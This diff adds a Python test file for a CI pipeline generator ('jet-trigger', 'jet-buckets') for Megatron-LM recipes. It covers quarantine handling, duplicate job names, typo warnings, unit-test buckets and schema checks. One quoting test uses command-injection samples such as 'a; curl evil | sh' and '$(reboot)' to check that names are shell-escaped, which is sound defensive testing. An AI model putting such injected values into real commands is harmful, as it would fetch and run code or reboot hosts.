@@ -1,0 +1,410 @@
+"""matrixgen.emit.jet and `jet-trigger` / `jet-buckets`: what Megatron-LM's
+generator does not do (quarantine, jobs it would lose, values no recipe uses,
+quoting), on small trees whose answers are worked out by hand. The agreement
+with the real generator is in test_jet_upstream.py."""
+
+from __future__ import annotations
+
+import json
+import shlex
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+import yaml
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from matrixgen.emit.jet import JetCall, job_keys, launcher_command
+from matrixgen.engine.model import Job
+from tests import realvalidators as rv
+from tests.conftest import Run, require_megatron
+
+TRACKER = "https://github.com/example/mcore/issues/"
+
+GPT = """
+type: basic
+format_version: 1
+spec:
+  name: "{test_case}_{environment}_{platforms}"
+  model: gpt
+  build: mcore-pyt-{environment}
+  platforms: dgx_h100
+  script: "{SCRIPT}"
+products:
+  - test_case: [gpt_a]
+    products:
+      - {environment: [dev], scope: [mr, mr-github]}
+  - test_case: [gpt_b]
+    products:
+      - {environment: [dev], scope: [mr, mr-github]}
+  - test_case: [gpt_c]
+    products:
+      - {environment: [dev, lts], scope: [mr]}
+"""
+BUILD = """
+type: build
+format_version: 1
+spec: {name: mcore-pyt-dev, source: {image: mcore}}
+"""
+
+
+def entry(id_: str, action: str, test_case: str, *, where: str = "", node_ids: str = "") -> str:
+    lines = [
+        f"  - id: {id_}",
+        f'    tracker: "{TRACKER}1"',
+        "    kind: flaky",
+        f"    action: {action}",
+        f"    match: {{test_case: {test_case}}}",
+        "    owner: mcore",
+        "    reason: flaky in CI",
+    ]
+    if where:
+        lines.append(f"    where: [{where}]")
+    if node_ids:
+        lines.append(f"    node_ids: [{node_ids}]")
+    return "\n".join(lines) + "\n"
+
+
+def jet_tree(tree: Callable, *entries: str, script: str = "pytest tests", extra=None) -> Path:
+    files = {"h100/gpt.yaml": GPT.replace("{SCRIPT}", script), "_build-mcore-dev.yaml": BUILD}
+    if entries:
+        files["quarantine.yaml"] = "entries:\n" + "".join(entries)
+    files.update(extra or {})
+    return tree(files)
+
+
+def call(root: Path, out: Path, *args: str) -> list[str]:
+    base = {
+        "--scope": "mr",
+        "--environment": "dev",
+        "--platform": "dgx_h100",
+        "--cluster": "dgxh100_eos",
+        "--test-cases": "all",
+        "--container-image": "img",
+        "--container-tag": "7",
+        "--dependent-job": "functional:configure",
+        "--slurm-account": "acct",
+    }
+    given_flags = set(args[::2])
+    pairs = [x for k, v in base.items() if k not in given_flags for x in (k, v)]
+    return [
+        "jet-trigger",
+        *pairs,
+        *args,
+        "--output-path",
+        str(out),
+        "--recipes",
+        str(root),
+        "--no-enable-warmup",
+    ]
+
+
+def jobs_of(path: Path) -> dict[str, dict]:
+    document = yaml.safe_load(path.read_text(encoding="utf-8"))
+    return {k: v for k, v in document.items() if isinstance(v, dict) and "script" in v}
+
+
+def run_jet(cli: Callable[..., Run], root: Path, out: Path, *args: str) -> Run:
+    return cli(*call(root, out, *args))
+
+
+# --------------------------------------------------------------------------- quarantine
+
+
+def test_a_skip_entry_takes_the_job_out_where_it_applies_only(
+    tree: Callable, cli: Callable, tmp_path: Path
+) -> None:
+    root = jet_tree(tree, entry("b-hangs", "skip", "gpt_b", where="gitlab/mr"))
+    out = tmp_path / "mr.yaml"
+    run = run_jet(cli, root, out)
+    assert run.code == 0, run
+    assert set(jobs_of(out)) == {"gpt_a", "gpt_c"}
+    assert "1 skipped by quarantine (b-hangs)" in run.err
+    # The GitHub pipeline of the same case is another place: the entry does not apply.
+    run = run_jet(cli, root, out, "--scope", "mr-github", "--system", "github")
+    assert run.code == 0, run
+    assert set(jobs_of(out)) == {"gpt_a", "gpt_b"}
+    # GitHub asking for the GitLab scope is github/mr: not covered either.
+    run = run_jet(cli, root, out, "--system", "github")
+    assert set(jobs_of(out)) == {"gpt_a", "gpt_b", "gpt_c"}
+
+
+def test_the_system_defaults_to_github_inside_github_actions(
+    tree: Callable, cli: Callable, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    root = jet_tree(tree, entry("b-l1", "skip", "gpt_b", where="github/L1"))
+    out = tmp_path / "l1.yaml"
+    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
+    assert run_jet(cli, root, out, "--scope", "mr-github").code == 0
+    assert set(jobs_of(out)) == {"gpt_a", "gpt_b"}
+    monkeypatch.setenv("GITHUB_ACTIONS", "true")
+    assert run_jet(cli, root, out, "--scope", "mr-github").code == 0
+    assert set(jobs_of(out)) == {"gpt_a"}
+
+
+def test_an_allow_failure_entry_makes_that_job_non_blocking(
+    tree: Callable, cli: Callable, tmp_path: Path
+) -> None:
+    root = jet_tree(tree, entry("c-flaky", "allow-failure", "gpt_c"))
+    out = tmp_path / "mr.yaml"
+    run = run_jet(cli, root, out)
+    assert run.code == 0, run
+    jobs = jobs_of(out)
+    assert {k: v["allow_failure"] for k, v in jobs.items()} == {
+        "gpt_a": False,
+        "gpt_b": False,
+        "gpt_c": True,
+    }
+    assert "1 allowed to fail by quarantine" in run.err
+
+
+def test_a_skip_of_every_job_writes_the_placeholder_pipeline(
+    tree: Callable, cli: Callable, tmp_path: Path
+) -> None:
+    root = jet_tree(tree, entry("all", "skip", "gpt_*"))
+    out = tmp_path / "mr.yaml"
+    assert run_jet(cli, root, out).code == 0
+    document = yaml.safe_load(out.read_text(encoding="utf-8"))
+    assert document["stages"] == ["empty-pipeline-placeholder"]
+    assert document["empty-pipeline-placeholder-job"]["script"] == ["sleep 1"]
+
+
+def test_a_node_level_entry_needs_a_script_that_reaches_the_plugin(
+    tree: Callable, cli: Callable, tmp_path: Path
+) -> None:
+    node = "tests/test_a.py::test_one"
+    deselect = entry("a-node", "deselect", "gpt_a", node_ids=node)
+    out = tmp_path / "mr.yaml"
+    run = run_jet(cli, jet_tree(tree, deselect), out)
+    assert run.code == 1, run
+    assert "entry a-node (deselect) cannot reach the tests of gpt/gpt_a" in run.err
+    assert "gitlab-mr-dgx_h100-dev" in run.err and "MATRIXGEN_QUARANTINE" in run.err
+    assert not out.exists()
+    reaching = jet_tree(tree, deselect, script="MATRIXGEN_QUARANTINE=q.yaml pytest tests")
+    run = run_jet(cli, reaching, out)
+    assert run.code == 0, run
+    # The pipeline is as without the entry: the plugin deselects inside the job.
+    assert set(jobs_of(out)) == {"gpt_a", "gpt_b", "gpt_c"}
+    assert "--deselect" not in out.read_text(encoding="utf-8")
+
+
+# --------------------------------------------------------------------------- lost jobs
+
+OTHER_MODEL = """
+type: basic
+format_version: 1
+spec:
+  name: "{test_case}"
+  model: moe
+  build: mcore-pyt-{environment}
+  platforms: dgx_h100
+products:
+  - test_case: [gpt_a]
+    products:
+      - {environment: [dev], scope: [mr]}
+  - test_case: [stages]
+    products:
+      - {environment: [dev], scope: [mr]}
+"""
+
+
+def test_jobs_the_generator_would_lose_are_kept_and_said(
+    tree: Callable, cli: Callable, tmp_path: Path
+) -> None:
+    root = jet_tree(tree, extra={"h100/moe.yaml": OTHER_MODEL})
+    out = tmp_path / "mr.yaml"
+    run = run_jet(cli, root, out)
+    assert run.code == 0, run
+    document = yaml.safe_load(out.read_text(encoding="utf-8"))
+    # The keyword stays a setting; the job named like it is kept under another key.
+    assert document["stages"] == ["gpt", "moe"]
+    jobs = jobs_of(out)
+    assert set(jobs) == {"gpt_a", "gpt_a (2)", "gpt_b", "gpt_c", "stages (2)"}
+    # The generator keeps the later job of a test case (by model: moe after gpt).
+    assert jobs["gpt_a"]["stage"] == "moe" and jobs["gpt_a (2)"]["stage"] == "gpt"
+    assert "--test-case 'gpt_a'" in jobs["gpt_a (2)"]["script"][0]
+    assert '2 selected jobs share test case "gpt_a"' in run.err
+    assert 'test case "stages" is a GitLab keyword' in run.err
+    strict = run_jet(cli, root, tmp_path / "strict.yaml", "--strict")
+    assert strict.code == 2 and not (tmp_path / "strict.yaml").exists(), strict
+
+
+def _job(test_case: str, model: str = "gpt") -> Job:
+    return Job(
+        model=model,
+        test_case=test_case,
+        environment="dev",
+        platform="dgx_h100",
+        tag=None,
+        scope="mr",
+        cadence=("pr",),
+        name=test_case,
+        build=None,
+        n_repeat=1,
+        time_limit=1,
+    )
+
+
+@given(st.lists(st.sampled_from(["a", "a (2)", "b", "stages", "default", "a (3)"]), max_size=8))
+@example(["a", "a (2)", "a"])
+def test_job_keys_are_unique_and_keep_what_the_generator_keeps(names: list[str]) -> None:
+    jobs = [_job(name, model=f"m{i}") for i, name in enumerate(names)]
+    keys, _ = job_keys(jobs)
+    assert len(keys) == len(jobs) == len(set(keys))
+    assert not set(keys) & {"stages", "default"}
+    for name in set(names) - {"stages", "default"}:
+        last = max(i for i, n in enumerate(names) if n == name)
+        assert keys[last] == name  # the job the generator would keep, under its own key
+
+
+# --------------------------------------------------------------------------- values
+
+
+def test_a_value_no_recipe_uses_is_a_warning_with_did_you_mean(
+    tree: Callable, cli: Callable, tmp_path: Path
+) -> None:
+    root = jet_tree(tree)
+    out = tmp_path / "x.yaml"
+    run = run_jet(cli, root, out, "--scope", "mrr", "--test-cases", "gpt_a,gtp_b")
+    assert run.code == 0, run
+    said = '--scope "mrr" is used by no recipe, so it selects nothing (did you mean "mr"?)'
+    assert said in run.err
+    assert '--test-cases "gtp_b" is no test case of any recipe (did you mean "gpt_b"?)' in run.err
+    assert "empty-pipeline-placeholder-job" in out.read_text(encoding="utf-8")
+    # Legacy and tier names of a scope the tree uses are not unknown.
+    run = run_jet(cli, root, out, "--scope", "L1", "--system", "github")
+    assert "no recipe" not in run.err and set(jobs_of(out)) == {"gpt_a", "gpt_b"}
+
+
+def test_clusters_and_cadences_the_generator_refuses_are_usage_errors(
+    tree: Callable, cli: Callable, tmp_path: Path
+) -> None:
+    root = jet_tree(tree)
+    out = tmp_path / "x.yaml"
+    run = run_jet(cli, root, out, "--cluster", "dgxh100_eoss")
+    assert run.code == 2, run
+    assert 'unknown --cluster "dgxh100_eoss" (did you mean "dgxh100_eos"?)' in run.err
+    run = run_jet(cli, root, out, "--cadence", "nigthly")
+    assert run.code == 2 and 'did you mean "nightly"?' in run.err
+    assert not out.exists()
+    # As the generator: an unknown cluster with nothing selected still writes the placeholder.
+    run = run_jet(cli, root, out, "--cluster", "elsewhere", "--platform", "dgx_b300")
+    assert run.code == 0, run
+
+
+@given(st.text(st.characters(blacklist_characters="\x00", codec="utf-8"), min_size=1))
+@example("it's")
+@example("a; curl evil | sh")
+@example("$(reboot)")
+@example("plain_name-1.2")
+def test_a_test_case_is_one_shell_word_whatever_it_holds(name: str) -> None:
+    command = launcher_command(
+        _job(name),
+        JetCall(
+            scope="mr",
+            environment="dev",
+            test_cases="all",
+            platform="dgx_h100",
+            cluster="ghci",
+            container_image="img",
+            container_tag="7",
+            dependent_job="configure",
+            slurm_account="acct",
+            run_name="r",
+            wandb_experiment="w",
+        ),
+    )
+    words = shlex.split(command.split("; ", 1)[1])
+    assert words[words.index("--test-case") + 1] == name
+    assert words[words.index("--wandb-experiment") + 1] == f"w-gpt-{name}"
+    if "'" not in name:  # as the generator writes it
+        assert f"--test-case '{name}'" in command
+
+
+# --------------------------------------------------------------------------- buckets
+
+# The expression Megatron-LM's workflow runs with yq over a unit-test recipe.
+BUCKETS_PROGRAM = '[.products[].test_case[] | { "bucket": .}] | sort_by(.model, .test_case)'
+
+
+@pytest.mark.parametrize("rel", ["h100/unit-tests.yaml", "gb200/unit-tests.yaml"])
+def test_buckets_are_what_the_workflow_builds_from_the_recipe(cli: Callable, rel: str) -> None:
+    rv.require_jq()
+    recipes = require_megatron()
+    path = recipes / rel
+    data = yaml.safe_load(path.read_text(encoding="utf-8"))
+    expected = rv.jq(BUCKETS_PROGRAM, json.dumps(data))
+    run = cli("jet-buckets", path, "--recipes", recipes)
+    assert run.code == 0, run
+    assert json.loads(run.out) == json.loads(expected)
+    assert json.loads(run.out)  # the workflow runs no empty matrix
+
+
+UNIT = """
+type: basic
+format_version: 1
+spec:
+  name: "{test_case}_{environment}_{platforms}_{tag}"
+  model: unit-tests
+  build: mcore-pyt-{environment}
+  platforms: dgx_h100
+  script: "bash run_ci_test.sh --bucket {test_case}"
+products:
+  - test_case: [tests/unit_tests/data/]
+    products:
+      - {environment: [dev], tag: [latest], scope: [unit-tests]}
+  - test_case: [tests/unit_tests/models/]
+    products:
+      - {environment: [dev], tag: [latest], scope: [unit-tests]}
+  - test_case: [tests/unit_tests/ssm/, tests/unit_tests/extra/]
+"""
+
+
+def test_buckets_leave_out_what_a_skip_entry_skips_there(
+    tree: Callable, cli: Callable, tmp_path: Path
+) -> None:
+    skip = entry("data-broken", "skip", "tests/unit_tests/data/", where="gitlab/unit-tests")
+    allow = entry("models-flaky", "allow-failure", "tests/unit_tests/models/")
+    build = BUILD
+    root = tree(
+        {
+            "h100/unit-tests.yaml": UNIT,
+            "_build-mcore-dev.yaml": build,
+            "quarantine.yaml": "entries:\n" + skip + allow,
+        }
+    )
+    recipe = root / "h100/unit-tests.yaml"
+    run = cli("jet-buckets", recipe, "--recipes", root, "--system", "gitlab")
+    assert run.code == 0, run
+    assert json.loads(run.out) == [
+        {"bucket": "tests/unit_tests/models/"},
+        {"bucket": "tests/unit_tests/ssm/"},
+        {"bucket": "tests/unit_tests/extra/"},
+    ]
+    assert "entry models-flaky (allow-failure) on bucket tests/unit_tests/models/" in run.err
+    # GitHub asking is another place: the skip entry names GitLab's.
+    run = cli("jet-buckets", recipe, "--recipes", root, "--system", "github")
+    assert len(json.loads(run.out)) == 4
+    out = tmp_path / "buckets.json"
+    run = cli("jet-buckets", recipe, "--recipes", root, "--output", out, "--system", "gitlab")
+    assert run.code == 0 and out.read_text(encoding="utf-8").count("\n") == 1
+    assert len(json.loads(out.read_text(encoding="utf-8"))) == 3
+
+
+# --------------------------------------------------------------------------- validators
+
+
+def test_the_real_trees_pipelines_pass_gitlabs_schema(cli: Callable, tmp_path: Path) -> None:
+    rv.require_check_jsonschema()
+    recipes = require_megatron()
+    written = []
+    for scope, platform in [("mr", "dgx_h100"), ("nightly", "dgx_gb200"), ("mr-slim", "dgx_x")]:
+        out = tmp_path / f"{scope}-{platform}.yaml"
+        args = ["--scope", scope, "--platform", platform, "--enable-error-extraction"]
+        run = cli(*call(recipes, out, *args))
+        assert run.code == 0, run
+        written.append(out)
+    assert "empty-pipeline-placeholder-job" in written[-1].read_text(encoding="utf-8")
+    result = rv.check_jsonschema_gitlab(*written)
+    assert result.returncode == 0, result
